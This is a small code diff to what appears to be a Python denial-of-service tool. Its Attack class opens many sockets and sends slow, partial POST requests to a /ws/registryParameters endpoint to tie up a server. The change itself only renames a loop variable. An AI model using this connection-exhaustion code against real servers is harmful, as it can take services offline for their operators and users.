@@ -120,7 +120,7 @@ class Attack:
 def open_tricklers(host: str, port: int, headers: int, bodies: int) -> list[Trickler]:
     tricklers = []
     for kind, count in (("header", headers), ("body", bodies)):
-        for n in range(count):
+        for _ in range(count):
             sock = socket.create_connection((host, port), timeout=10)
             first = f"POST /ws/registryParameters HTTP/1.1\r\nHost: {host}\r\n"
             if kind == "body":
